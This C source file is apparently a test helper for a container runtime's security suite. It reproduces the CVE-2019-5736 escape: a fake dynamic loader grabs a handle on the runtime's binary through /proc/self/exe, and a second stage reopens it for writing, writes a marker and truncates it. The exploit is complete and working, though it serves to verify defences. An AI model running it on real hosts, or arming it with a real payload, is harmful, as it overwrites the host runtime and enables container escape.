// SPDX-License-Identifier: GPL-2.0
/*
 * nsw_exe_attack: the CVE-2019-5736 attack, for security.bats. Two builds of
 * this one file go into an attacker's rootfs:
 *
 * 1. cc -DNSW_FAKE_LD -nostdlib -static-pie ... -> /lib64/ld-linux-x86-64.so.2
 *    A fake dynamic loader. When the runtime runs a command of the image
 *    that is a script starting with "#!/proc/self/exe", the kernel executes
 *    the runtime's own image (whatever /proc/self/exe of the exec'ing
 *    process is) inside the container, and, that image being dynamically
 *    linked, maps the container's /lib64/ld-linux-x86-64.so.2 as its
 *    interpreter: this code, running in a process whose /proc/self/exe is
 *    the runtime's binary. It opens /proc/self/exe read-only (the handle
 *    the attack needs; no write access is asked for yet, and the file is
 *    busy anyway) and executes /nsw_exe_attack, the second stage, passing
 *    that descriptor number and the original arguments:
 *        /nsw_exe_attack attack FD ARGS[1..]
 *
 * 2. cc -static ... -> /nsw_exe_attack (also what make builds: main below)
 *        nsw_exe_attack attack FD [SCRIPT] fg|bg RESULT SECONDS
 *    The runtime's image is no longer executed by this process, so the
 *    file can be reopened for writing once the runtime itself has exited:
 *      handle=TARGET    readlink(/proc/self/fd/FD): what the handle is
 *      reopen=ok|ERRNO  open(/proc/self/fd/FD, O_WRONLY), retried while it
 *                       fails with ETXTBSY (the runtime still runs) for up
 *                       to SECONDS
 *      write=ok|ERRNO   pwrite("\x7fNSW-OVERWRITTEN", offset 0)
 *      truncate=ok|ERRNO ftruncate(0)
 *      done
 *    fg: in this process, lines on stdout (RESULT is ignored). bg: "handle="
 *    on stdout, then this process exits (so that the runtime, waiting for
 *    it, exits too) while a child in a new session does the rest and writes
 *    the lines to RESULT (written to RESULT.tmp, then renamed).
 *
 * A runtime that runs from a sealed memfd copy gives a handle on that copy:
 * reopening it cannot reach the binary on disk, and the seals refuse the
 * write and the truncation. One that runs through a lower-only overlay
 * gives a handle the kernel refuses to reopen for writing (EROFS). A runtime run from its file gives a handle on
 * the file itself, which the attacker, root in a container without a user
 * namespace, may then overwrite.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif

#ifdef NSW_FAKE_LD
/* No libc: the kernel jumps here with the main program's stack. */
#include <asm/unistd.h>
#include <fcntl.h>

static long sys3(long n, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return r;
}

__attribute__((used, noreturn)) void nsw_fake_ld_main(long *sp)
{
	long argc = sp[0];
	char **argv = (char **)(sp + 1);
	char **envp = argv + argc + 1;
	char *nargv[32];
	char num[4];
	long fd, i, n = 0;

	fd = sys3(__NR_open, (long)"/proc/self/exe", O_RDONLY, 0);
	if (fd < 0 || fd > 999)
		sys3(__NR_exit_group, 97, 0, 0);
	if (fd >= 100) {
		num[0] = '0' + fd / 100;
		num[1] = '0' + fd / 10 % 10;
		num[2] = '0' + fd % 10;
		num[3] = 0;
	} else if (fd >= 10) {
		num[0] = '0' + fd / 10;
		num[1] = '0' + fd % 10;
		num[2] = 0;
	} else {
		num[0] = '0' + fd;
		num[1] = 0;
	}
	nargv[n++] = "nsw_exe_attack";
	nargv[n++] = "attack";
	nargv[n++] = num;
	for (i = 1; i < argc && n < 31; i++)
		nargv[n++] = argv[i];
	nargv[n] = 0;
	sys3(__NR_execve, (long)"/nsw_exe_attack", (long)nargv, (long)envp);
	sys3(__NR_exit_group, 98, 0, 0);
	__builtin_unreachable();
}

__asm__(".text\n"
	".globl _start\n"
	"_start:\n"
	"	xor %rbp, %rbp\n"
	"	mov %rsp, %rdi\n"
	"	and $-16, %rsp\n"
	"	call nsw_fake_ld_main\n"
	"	hlt\n");

#else /* the second stage */

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include "nsw_probe.h"

static void attack(FILE *out, int fd, int seconds)
{
	static const char payload[] = "\x7fNSW-OVERWRITTEN";
	struct timespec pause = {0, 50 * 1000 * 1000};
	char path[64];
	int wfd = -1;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < seconds * 20; i++) {
		wfd = open(path, O_WRONLY);
		if (wfd >= 0 || errno != ETXTBSY)
			break;
		nanosleep(&pause, NULL);
	}
	if (wfd < 0) {
		fprintf(out, "reopen=%s\n", ename(errno));
	} else {
		fprintf(out, "reopen=ok\n");
		if (pwrite(wfd, payload, sizeof(payload) - 1, 0) == (ssize_t)sizeof(payload) - 1)
			fprintf(out, "write=ok\n");
		else
			fprintf(out, "write=%s\n", ename(errno));
		if (ftruncate(wfd, 0) == 0)
			fprintf(out, "truncate=ok\n");
		else
			fprintf(out, "truncate=%s\n", ename(errno));
		close(wfd);
	}
	fprintf(out, "done\n");
	fflush(out);
}

int main(int argc, char **argv)
{
	const char *mode = NULL, *result = NULL;
	char path[64], target[4096];
	int fd, seconds = 0, i;
	ssize_t n;
	pid_t pid;

	if (argc < 3 || strcmp(argv[1], "attack")) {
		fprintf(stderr, "usage: nsw_exe_attack attack FD [SCRIPT] fg|bg RESULT SECONDS\n");
		return 2;
	}
	fd = atoi(argv[2]);
	for (i = 3; i < argc; i++) {
		if (!strcmp(argv[i], "fg") || !strcmp(argv[i], "bg")) {
			mode = argv[i];
			break;
		}
	}
	if (!mode || i + 2 >= argc) {
		fprintf(stderr, "nsw_exe_attack: expected fg|bg RESULT SECONDS\n");
		return 2;
	}
	result = argv[i + 1];
	seconds = atoi(argv[i + 2]);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, target, sizeof(target) - 1);
	if (n < 0) {
		printf("handle=%s\n", ename(errno));
		return 1;
	}
	target[n] = '\0';
	printf("handle=%s\n", target);
	fflush(stdout);
	if (!strcmp(mode, "fg")) {
		attack(stdout, fd, seconds);
		return 0;
	}
	pid = fork();
	if (pid < 0) {
		printf("fork=%s\n", ename(errno));
		return 1;
	}
	if (pid == 0) {
		char tmp[4096];
		FILE *out;
		int null = open("/dev/null", O_RDWR);

		setsid();
		if (null >= 0) {
			dup2(null, 0);
			dup2(null, 1);
			dup2(null, 2);
		}
		snprintf(tmp, sizeof(tmp), "%s.tmp", result);
		out = fopen(tmp, "w");
		if (!out)
			_exit(1);
		attack(out, fd, seconds);
		fclose(out);
		rename(tmp, result);
		_exit(0);
	}
	return 0;
}

#endif
